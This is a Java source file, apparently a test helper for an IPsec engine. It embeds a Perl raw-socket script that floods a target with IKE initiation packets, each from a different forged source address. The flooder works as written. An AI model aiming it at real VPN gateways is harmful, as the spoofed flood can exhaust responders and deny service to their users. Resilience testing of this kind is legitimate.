package dev.reeve.engine.esp;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/// Sends well-formed first messages of IKE from addresses that are not its own, a new one each
/// time, so that nobody answers what they are answered.
final class Flooder implements AutoCloseable {

  /// A proposal of main mode's defaults: AES-GCM of 256 bits, HMAC-SHA-256, curve25519, of which
  /// any 32 bytes are a public key.
  private static final String SCRIPT =
      """
      use strict;
      use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6 PF_INET6 AF_INET6);
      my ($to, $count, $rate) = @ARGV;
      my $six = $to =~ /:/;
      my $host = inet_pton($six ? AF_INET6 : AF_INET, $to);
      my $where = $six ? pack_sockaddr_in6(0, $host) : sockaddr_in(0, $host);
      socket(my $raw, $six ? PF_INET6 : PF_INET, SOCK_RAW, 255) or die "socket: $!";
      my $sum = sub { my $s = unpack '%32n*', $_[0]; $s = ($s & 0xffff) + ($s >> 16) while $s >> 16; ~$s & 0xffff };
      srand(1);
      my $random = sub { join '', map { chr int rand 256 } 1 .. $_[0] };
      my $transforms = pack('CxnCxnnn', 3, 12, 1, 20, 0x800e, 256)
          . pack('CxnCxn', 3, 8, 2, 5) . pack('CxnCxn', 0, 8, 4, 31);
      my $proposal = pack('CxnCCCC', 0, 8 + length $transforms, 1, 1, 0, 3) . $transforms;
      my $sa = pack('CCn', 34, 0, 4 + length $proposal) . $proposal;
      for my $i (1 .. $count) {
        my $body = $sa . pack('CCnnn', 40, 0, 40, 31, 0) . $random->(32) . pack('CCn', 0, 0, 36) . $random->(32);
        my $ike = $random->(8) . pack('x8CCCCNN', 33, 0x20, 34, 8, 0, 28 + length $body) . $body;
        my $udp = pack('nnnn', 500, 500, 8 + length $ike, 0) . $ike;
        my $packet;
        if ($six) { # which has no UDP without a checksum
          my $from = pack('nx12n', 0xfd98, $i & 0xffff);
          my $sum = $sum->($from . $host . pack('NN', length $udp, 17) . $udp) || 0xffff;
          substr($udp, 6, 2) = pack('n', $sum);
          $packet = pack('NnCC', 0x60000000, length $udp, 17, 64) . $from . $host . $udp;
        } else {
          my $from = pack('CCCC', 198, 18, $i >> 8 & 255, $i & 255);
          $packet = pack('CCnnnCCna4a4', 0x45, 0, 20 + length $udp, 0, 0, 64, 17, 0, $from, $host) . $udp;
        }
        send($raw, $packet, 0, $where) or die "send: $!";
        select(undef, undef, undef, 0.02) if $i % ($rate / 50) == 0;
      }
      print "sent\\n";
      """;

  private final Process process;

  /// @param rate at most so many a second
  Flooder(List<String> within, String to, int count, int rate) throws IOException {
    var line = new ArrayList<>(within);
    line.addAll(List.of("perl", "-e", SCRIPT, to, "" + count, "" + rate));
    process = new ProcessBuilder(line).redirectErrorStream(true).start();
  }

  boolean isRunning() {
    return process.isAlive();
  }

  @Override
  public void close() {
    var unused = process.destroyForcibly().onExit().join();
  }
}
